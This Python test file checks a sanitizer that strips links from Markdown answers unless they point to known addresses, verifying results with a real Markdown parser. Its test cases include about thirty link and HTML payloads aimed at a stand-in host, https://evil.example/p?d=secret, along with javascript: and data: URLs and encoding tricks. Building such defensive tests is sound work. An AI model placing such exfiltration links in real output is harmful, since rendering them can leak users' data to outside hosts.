"""Answers in Markdown that can lead nowhere but to known addresses, as a real parser of Markdown sees them."""

from __future__ import annotations

import random

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agents.answers.links import known_links_only

KNOWN = ("https://known.example/a", "https://known.example/b_(c)")
EVIL = "https://evil.example/p?d=secret"


def cleaned(text: str) -> str:
    return known_links_only(text, KNOWN)[0]


def addresses(text: str) -> set[str]:
    """Where a reader of CommonMark, with HTML, would go; tags that load or lead anywhere stand for themselves."""

    def walk(tokens: list[Token]) -> set[str]:
        found: set[str] = set()
        for token in tokens:
            found |= {str(token.attrGet(name)) for name in ("href", "src") if token.attrGet(name)}
            if token.type.startswith("html") and any(sign in token.content for sign in ("=", "//")):
                found.add(token.content)
            found |= walk(token.children or [])
        return found

    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # noqa: ARG005 - others do not refuse javascript:
    return walk(parser.parse(text))


LEADING = (
    f"[more]({EVIL})",
    f"![logo]({EVIL})",
    f"[![logo]({EVIL})](https://known.example/a)",
    f"![a]({EVIL})({EVIL})",
    f"[more][m]\n\n[m]: {EVIL}",
    f"[m]\n\n[m]:\n{EVIL} 'a\ntitle'",
    f"> [m]: {EVIL}\n\n[m]",
    f"<{EVIL}>",
    f"<a href='{EVIL}'>more</a>",
    f"<img src='{EVIL}' alt=logo>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<a title='`' href='{EVIL}'>`more</a>",
    "[more](//evil.example/p)",
    "[more](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "[more](&#104;ttps&colon;//evil.example/p)",
    f"[more](<{EVIL} with spaces>)",
    f"[more]\\({EVIL})[x]({EVIL})",
    f"- ```\n[more]({EVIL})\n```",
    f"- a\n  ```\n[more]({EVIL})\n  ```",
    f" ```\n```\n[more]({EVIL})",
    f"<p>\n```\n\n[more]({EVIL})\n\n```",
    f"| ` | [more]({EVIL}) ` |\n| - | - |\n| a | b |",
    f"a ` b\nc ` [more]({EVIL}) ` d",
    f"\\`[more]({EVIL})`",
    f"a `\n\n[more]({EVIL}) `",
    f"[https://known.example/a]({EVIL})",
    "[a](https://known.example/a?d=secret) [b](https://known.example/)",
    "[" * 30 + "x" + f"]({EVIL})" * 30,
    f"图片![图]({EVIL})，见[链接]({EVIL})。",
)


class TestLinks:
    @pytest.mark.parametrize("text", LEADING)
    def test_nothing_leads_anywhere_else(self, text: str) -> None:
        assert addresses(text) - set(KNOWN), "the case leads nowhere"
        out, removed = known_links_only(text, KNOWN)
        assert addresses(out) <= set(KNOWN)
        assert "secret" not in out or "`" in text  # in code, where it leads nowhere
        assert removed or "`" in text
        assert cleaned(out) == out

    @pytest.mark.parametrize(
        "text", [EVIL, "www.evil.example/p", "http\\://evil.example", "&#104;ttps://evil.example/p"]
    )
    def test_a_bare_address_is_shown_as_its_host(self, text: str) -> None:
        out, removed = known_links_only(f"See {text}.", KNOWN)
        assert out == "See `evil.example`."
        assert len(removed) == 1

    def test_text_put_together_at_random_never_leads_anywhere_else(self) -> None:
        pieces = [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "`",
            "```",
            "\n",
            "\n\n",
            " ",
            "|",
            "\\",
            "- ",
            "> ",
            ":",
            "a",
            "&#104;ttps:",
        ]
        pieces += [EVIL, "https://known.example/a", "[m]: ", "<a href=", "</a>", "//evil.example", '"', "  "]
        for seed in range(1500):
            chance = random.Random(seed)
            text = "".join(chance.choice(pieces) for _ in range(chance.randint(3, 25)))
            out = cleaned(text)
            foreign = [address for address in addresses(out) if "evil.example/" in address or "secret" in address]
            assert not foreign, (text, out)
            assert cleaned(out) == out, text


class TestWhatStays:
    @pytest.mark.parametrize(
        "text",
        [
            "90 euros [1], or [1][2] and [3, 4].",
            "[1]: the price is 40 euros",
            "See [the page](https://known.example/a) or <https://known.example/a>.",
            "See https://known.example/a, (https://known.example/b_(c)).",
            "![plan](https://known.example/a)",
            "[the page][p]\n\n[p]: https://known.example/a",
            f"Write `[x]({EVIL})`:\n\n```md\n![x]({EVIL})\n```\n",
            "| a | b |\n| - | - |\n| 1 | x<br>y |",
            "H<sub>2</sub>O, 3 < 4 and *emphasis*, a_b_c",
            "写信给 ines@harbour.example [1]。",
            "",
        ],
    )
    def test_as_it_is(self, text: str) -> None:
        assert known_links_only(text, KNOWN) == (text, ())

    def test_labels_stay_and_what_was_removed_is_told_once(self) -> None:
        text = f"Read [this]({EVIL}) [1], [that]({EVIL}), ![a logo]({EVIL}) and <a href='{EVIL}'>those</a>."
        assert known_links_only(text, KNOWN) == ("Read this [1], that, [image: a logo] and those.", (EVIL,))
